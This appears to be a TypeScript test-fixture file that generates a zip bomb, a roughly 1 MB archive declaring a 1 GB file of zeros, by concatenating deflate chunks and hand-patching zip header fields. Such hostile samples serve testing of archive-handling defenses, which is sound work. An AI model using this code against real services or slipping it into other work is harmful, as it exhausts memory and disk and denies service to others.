// Artifacts as somebody makes them who means harm.

import { constants, deflateRawSync } from "node:zlib";
import { makeZip } from "../kit/small-zip.ts";

/** zipBomb is a file of 1 GB of zeros in a megabyte. */
export function zipBomb(name: string): Buffer {
  const piece = deflateRawSync(Buffer.alloc(16 * 1024 ** 2), { finishFlush: constants.Z_FULL_FLUSH });
  const packed = Buffer.concat([...Array.from({ length: 64 }, () => piece), Buffer.from([3, 0])]); // pieces do not end the stream
  return withContent(name, packed, 1024 ** 3);
}

/** A zip of one file whose packed bytes are given. */
function withContent(name: string, packed: Buffer, size: number): Buffer {
  const empty = makeZip([[name, ""]]);
  const table = empty.indexOf("PK\u0001\u0002", 0, "latin1");
  const local = Buffer.concat([empty.subarray(0, 30), Buffer.from(name), packed]);
  const rest = Buffer.from(empty.subarray(table));
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(size, 22);
  rest.writeUInt32LE(packed.length, 20);
  rest.writeUInt32LE(size, 24);
  rest.writeUInt32LE(local.length, rest.length - 22 + 16);
  return Buffer.concat([local, rest]);
}
